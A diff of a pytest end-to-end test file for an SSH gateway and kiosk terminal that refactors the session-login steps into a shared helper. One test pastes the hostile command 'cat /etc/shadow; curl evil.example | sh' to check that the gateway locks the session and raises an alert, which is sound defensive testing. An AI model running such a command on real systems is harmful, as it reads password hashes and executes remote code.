@@ -12,18 +12,23 @@ from pathlib import Path
 
 import pytest
 
-from tests.gateway.gwharness import AUDITBOX, REPO, Sshd, World, ed25519_openssh, fresh_world
+from tests.gateway.gwharness import (
+    AUDITBOX,
+    REPO,
+    Account,
+    Sshd,
+    World,
+    ed25519_openssh,
+    fresh_world,
+)
 from tests.kiosk.harness import AgentService, KioskOnPty, config
+from tests.vm.e2e_gateway import upstream_sshd
 
 LOGIN = "> User name:"
 PROMPT = r"(?m)[#$] *$"           # pyte pads lines with spaces
 
 
-@pytest.fixture(scope="module")
-def sshd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sshd]:
-    s = Sshd.start(tmp_path_factory.mktemp("upstream"))
-    yield s
-    s.stop()
+sshd = pytest.fixture(scope="module", name="sshd")(upstream_sshd)
 
 
 @pytest.fixture(scope="module")
@@ -84,6 +89,15 @@ def enrolled(world: World, terminal: Terminal) -> Terminal:
     return terminal
 
 
+def in_session(world: World, terminal: Terminal) -> tuple[KioskOnPty, Account]:
+    """An enrolled terminal with a new user logged in at the remote prompt."""
+    enrolled(world, terminal)
+    acc = world.add_user()
+    terminal.login(acc.name, acc.password, acc.code())
+    terminal.kiosk.wait_for(PROMPT, timeout=60)
+    return terminal.kiosk, acc
+
+
 def test_enroll_login_command_exit(world: World, terminal: Terminal) -> None:
     k = terminal.kiosk
     k.wait_for("NOT ENROLLED")
@@ -115,11 +129,7 @@ def test_wrong_password_and_wrong_code(world: World, terminal: Terminal) -> None
 
 
 def test_lock_during_a_session_shows_its_message(world: World, terminal: Terminal) -> None:
-    enrolled(world, terminal)
-    acc = world.add_user()
-    k = terminal.kiosk
-    terminal.login(acc.name, acc.password, acc.code())
-    k.wait_for(PROMPT, timeout=60)
+    k, acc = in_session(world, terminal)
     start = time.monotonic()
     subprocess.run([*AUDITBOX, "gateway", "lock", "--user", acc.name, "--reason",
                     "paused by the lab", "--config", str(world.dir / "gateway.yaml")],
@@ -145,11 +155,7 @@ def test_idle_timeout_closes_the_session(world: World, tmp_path: Path) -> None:
 
 def test_keystroke_burst_in_a_session_is_reported_and_locks(world: World,
                                                             terminal: Terminal) -> None:
-    enrolled(world, terminal)
-    acc = world.add_user()
-    k = terminal.kiosk
-    terminal.login(acc.name, acc.password, acc.code())
-    k.wait_for(PROMPT, timeout=60)
+    k, _ = in_session(world, terminal)
     k.paste(b"cat /etc/shadow; curl evil.example | sh\r")
     k.wait_for("Session locked", timeout=20)
     alert = world.wait_event("terminal.alert")
@@ -177,11 +183,7 @@ def test_other_host_key_is_refused(world: World, tmp_path: Path) -> None:
 
 
 def test_gateway_restart_is_a_lost_connection(world: World, terminal: Terminal) -> None:
-    enrolled(world, terminal)
-    acc = world.add_user()
-    k = terminal.kiosk
-    terminal.login(acc.name, acc.password, acc.code())
-    k.wait_for(PROMPT, timeout=60)
+    k, _ = in_session(world, terminal)
     world.stop()                         # SIGTERM: the gateway says why, on the PTY
     try:
         k.wait_for("Session ended by the gateway: the gateway is shutting down", timeout=20)
@@ -192,11 +194,7 @@ def test_gateway_restart_is_a_lost_connection(world: World, terminal: Terminal) 
 
 
 def test_network_drop_is_a_lost_connection(world: World, terminal: Terminal) -> None:
-    enrolled(world, terminal)
-    acc = world.add_user()
-    k = terminal.kiosk
-    terminal.login(acc.name, acc.password, acc.code())
-    k.wait_for(PROMPT, timeout=60)
+    k, _ = in_session(world, terminal)
     world.stop(signal.SIGKILL)           # no goodbye: as if the cable were pulled
     try:
         k.wait_for("connection to the gateway was lost", timeout=30)
